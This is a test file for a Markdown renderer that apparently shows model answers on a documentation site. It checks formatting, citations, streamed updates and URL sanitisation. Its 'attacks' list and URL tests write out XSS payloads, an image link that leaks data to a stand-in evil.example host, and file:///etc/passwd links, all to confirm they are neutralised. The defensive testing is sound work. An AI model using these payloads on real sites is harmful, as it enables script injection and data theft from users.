// @vitest-environment jsdom
import { beforeEach, describe, expect, test } from 'vitest';
import { type MarkdownOptions, markdownView, safeUrl, suggestionsIn } from '../../../../integration/reader/ask/markdown.ts';

let box: HTMLElement;
const options: MarkdownOptions = {
  pageUrl: (path) => `site:${path}`,
  citation: (number) => (number <= 2 ? { href: `#source-${number}`, label: `Source ${number}` } : undefined),
};

beforeEach(() => {
  box = document.createElement('div');
  document.body.replaceChildren(box);
});

function html(text: string): string {
  markdownView(box, options)(text);
  return box.innerHTML;
}

const link = (href: string, text: string) => `<a href="${href}" target="_blank" rel="noopener noreferrer nofollow">${text}</a>`;

describe('the Markdown of models', () => {
  test.each([
    [
      'A *b* **c** ***d*** `e` ~~f~~',
      '<p>A <em>b</em> <strong>c</strong> <strong><em>d</em></strong> <code dir="ltr">e</code> <del>f</del></p>',
    ],
    ['two\nlines\n\nand another', '<p>two\nlines</p><p>and another</p>'],
    ['a  \nb<br>c\\\nd', '<p>a  <br>b<br>c<br>d</p>'],
    ['snake_case_name and 2 * 3 * 4', '<p>snake_case_name and 2 * 3 * 4</p>'],
    ['not \\*so\\* \\[1]', '<p>not *so* [1]</p>'],
    ['# One\ntext', '<p role="heading" aria-level="3" class="heading">One</p><p>text</p>'],
    ['## Two ##', '<p role="heading" aria-level="4" class="heading">Two</p>'],
    ['- a\n- b\n  - c\n\ntext', '<ul><li>a</li><li>b<ul><li>c</li></ul></li></ul><p>text</p>'],
    ['3. a\n4. b', '<ol start="3"><li>a</li><li>b</li></ol>'],
    ['1. a\n\n   more\n\n2. b', '<ol><li>a<p>more</p></li><li>b</li></ol>'],
    [
      '1. run\n   ```sh\n   npm i\n   ```\n2. b',
      '<ol><li>run<pre tabindex="0" dir="ltr"><code>npm i</code></pre></li><li>b</li></ol>',
    ],
    ['text\n- a', '<p>text</p><ul><li>a</li></ul>'],
    ['```js\nconst a = `<b>`;\n```\nafter', '<pre tabindex="0" dir="ltr"><code>const a = `&lt;b&gt;`;</code></pre><p>after</p>'],
    ['a &lt;b> & `&lt;`', '<p>a &lt;b&gt; &amp; <code dir="ltr">&amp;lt;</code></p>'],
    ['```\nnot closed', '<pre tabindex="0" dir="ltr"><code>not closed</code></pre>'],
    ['~~~\n```\n~~~', '<pre tabindex="0" dir="ltr"><code>```</code></pre>'],
    ['> a\n> - b', '<blockquote><p>a</p><ul><li>b</li></ul></blockquote>'],
    ['a\n\n---\n\nb', '<p>a</p><hr><p>b</p>'],
    [
      '| a | b |\n|---|:-:|\n| 1 \\| 2 | `c` |',
      '<div class="table" tabindex="0"><table><thead><tr><th>a</th><th>b</th></tr></thead><tbody><tr><td>1 | 2</td><td><code dir="ltr">c</code></td></tr></tbody></table></div>',
    ],
    ['[a](https://docs.example/b)', `<p>${link('https://docs.example/b', 'a')}</p>`],
    ['[a *b*](<https://docs.example/b c> "title")', `<p>${link('https://docs.example/bc', 'a <em>b</em>')}</p>`],
    ['[a](/guides/install#npm)', '<p><a href="site:/guides/install#npm">a</a></p>'],
    [
      'see https://docs.example/a_(b), or <https://docs.example>.',
      `<p>see ${link('https://docs.example/a_(b', 'https://docs.example/a_(b')}), or ${link('https://docs.example/', 'https://docs.example')}.</p>`,
    ],
    [
      'so [1], and [2][1] but [3]',
      '<p>so <a href="#source-1" class="citation" aria-label="Source 1" title="Source 1">[1]</a>, and <a href="#source-2" class="citation" aria-label="Source 2" title="Source 2">[2]</a><a href="#source-1" class="citation" aria-label="Source 1" title="Source 1">[1]</a> but [3]</p>',
    ],
    ['![a boat](https://docs.example/boat.png)', `<p>${link('https://docs.example/boat.png', 'a boat')}</p>`],
    ['[![a boat](/boat.png)](https://docs.example)', `<p>${link('https://docs.example/', 'a boat')}</p>`],
  ])('%j', (text, expected) => {
    expect(html(text)).toBe(expected);
  });
});

const attacks = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<a href="javascript:alert(1)">a</a>',
  '<style>*{display:none}</style>',
  '<base href="https://evil.example">',
  '<form action="https://evil.example"><input name=a autofocus></form>',
  '[a](javascript:alert(1))',
  '[a](JAVASCRIPT:alert%281%29)',
  '[a](java\tscript:alert(1))',
  '[a](<java\nscript:alert(1)>)',
  '[a](&#106;avascript:alert(1))',
  '[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[a](vbscript:alert(1))',
  '[a](file:///etc/passwd)',
  '[a](//evil.example)',
  '[a](/\\evil.example)',
  '[a](\\\\evil.example)',
  '![a](https://evil.example/leak?secret=1)',
  '![a](javascript:alert(1))',
  '![a](data:image/svg+xml,<svg onload=alert(1)>)',
  '![](https://evil.example/leak)',
  '[a]: javascript:alert(1)\n\n[a]',
  '<javascript:alert(1)>',
  '<https://evil.example" onmouseover="alert(1)>',
  '[a](https://evil.example" onmouseover="alert(1))',
  '[a](https://evil.example "t" onmouseover="alert(1)")',
  '`</code><img src=x onerror=alert(1)>`',
  '```"><img src=x onerror=alert(1)>\na\n```',
  '```html\n</code></pre><script>alert(1)</script>\n```',
  '| <img src=x onerror=alert(1)> |\n|---|\n| <script>alert(1)</script> |',
  '- <details open ontoggle=alert(1)>',
  '> <video src=x onerror=alert(1)>',
  '# <script>alert(1)</script>',
  '```suggestions\n(<img src=x onerror=alert(1)>)[javascript:alert(1)]\n```',
  '<!-- --><script>alert(1)</script>',
  '<math><mtext></table><mglyph><style><img src=x onerror=alert(1)>',
  '[<img src=x onerror=alert(1)>](https://docs.example)',
  '\u202e[a](javascript:alert(1))',
];

describe('hostile Markdown', () => {
  const elements = 'a blockquote br code del div em hr li ol p pre span strong table tbody td th thead tr ul'.split(' ');
  const attributes = 'aria-label aria-level class dir href rel role start tabindex target title'.split(' ');

  test.each(attacks.map((attack) => [attack]))('%j does nothing', (attack) => {
    for (const text of [attack, `**${attack}**`, `[a](/b) ${attack}`, attack.slice(0, -2)]) {
      html(text);
      expect(box.textContent).not.toBe('');
      for (const element of box.querySelectorAll('*')) {
        expect(elements).toContain(element.localName);
        for (const { name } of element.attributes) expect(attributes).toContain(name);
        expect(element.getAttribute('href') ?? '#source-').toMatch(/^(?:https?:\/\/|mailto:|site:\/(?!\/)|#source-)/);
      }
    }
  });

  test.each([
    ['[', 100_000],
    ['*a ', 100_000],
    ['**a *', 50_000],
    ['_a ', 100_000],
    ['`a``', 50_000],
    ['> ', 50_000],
    ['- ', 50_000],
    ['![](', 50_000],
    ['<a ', 50_000],
    ['[a](b', 50_000],
    ['\n', 100_000],
    ['- a\n\n\n', 30_000],
    ['| a ', 50_000],
    ['# ', 50_000],
    ['https://', 30_000],
    ['\\', 100_000],
    ['~~', 50_000],
    ['1. a\n', 30_000],
    ['  '.repeat(10) + '- a\n', 20_000],
  ])('%j many times is shown', (piece, times) => {
    html(piece.repeat(times));
    expect(box.isConnected).toBe(true);
  });
});

describe('text that arrives in pieces', () => {
  test('does not replace complete blocks', () => {
    const show = markdownView(box, options);
    show('First.\n\nSec');
    const [first, second] = box.children;
    show('First.\n\nSecond.\n\n- a');
    expect(box.children[0]).toBe(first);
    expect(box.children[1]).not.toBe(second);
    expect(box.textContent).toBe('First.Second.a');
  });

  test('ends with the same nodes, wherever it was split', () => {
    const text =
      '# A\n\nText **with** `code` and [1].\n\n1. one\n2. two\n\n   ```js\n   x\n   ```\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n> end';
    html(text);
    const whole = box.innerHTML;
    box.replaceChildren();
    const show = markdownView(box, options);
    for (let end = 1; end <= text.length; end++) show(text.slice(0, end));
    expect(box.innerHTML).toBe(whole);
  });

  test('offers suggestions once their block is closed', () => {
    const offered: string[][] = [];
    const show = markdownView(box, {
      ...options,
      suggestions: (suggestions) => {
        offered.push(suggestions.map(({ label }) => label));
        return document.createElement('ul');
      },
    });
    show('Text\n\n```suggestions\n(How?)[/how]\n');
    expect(offered).toEqual([]);
    expect(box.textContent).toBe('Text');
    show('Text\n\n```suggestions\n(How?)[/how]\n```');
    expect(offered).toEqual([['How?']]);
  });
});

test('suggestions are lines of a label and a path', () => {
  expect(suggestionsIn('(Deploy to Kubernetes)[/guides/deploy]\nnot one\n()[/x]\n( a )[]\n')).toEqual([
    { label: 'Deploy to Kubernetes', path: '/guides/deploy' },
    { label: 'a', path: undefined },
  ]);
});

test.each([
  ['https://docs.example/a?b#c', { kind: 'other', href: 'https://docs.example/a?b#c' }],
  ['HTTP://docs.example', { kind: 'other', href: 'http://docs.example/' }],
  ['mailto:a@docs.example', { kind: 'other', href: 'mailto:a@docs.example' }],
  ['/guides/install#npm', { kind: 'own', path: '/guides/install#npm' }],
  ['guides/../install', { kind: 'own', path: '/install' }],
  ['#npm', { kind: 'own', path: '/#npm' }],
  ['/../../etc/passwd', { kind: 'own', path: '/etc/passwd' }],
])('%s is a safe URL', (url, expected) => {
  expect(safeUrl(url)).toEqual(expected);
});

test.each([
  ['javascript:alert(1)'],
  ['JaVaScRiPt:alert(1)'],
  ['java\nscript:alert(1)'],
  ['\u0001javascript:alert(1)'],
  [' javascript:alert(1)'],
  ['javascript\t:alert(1)'],
  ['data:text/html,<script>alert(1)</script>'],
  ['vbscript:msgbox(1)'],
  ['file:///etc/passwd'],
  ['blob:https://docs.example/1'],
  ['about:blank'],
  ['ftp://docs.example/a'],
  ['//evil.example/a'],
  ['/\\evil.example/a'],
  ['\\\\evil.example\\a'],
  ['/\t/evil.example'],
  ['https://user:secret@docs.example/'],
  ['https://carrel.invalid/a'],
  ['http://[::bad'],
  [''],
  ['   '],
])('%j is not a safe URL', (url) => {
  expect(safeUrl(url)).toBeNull();
});
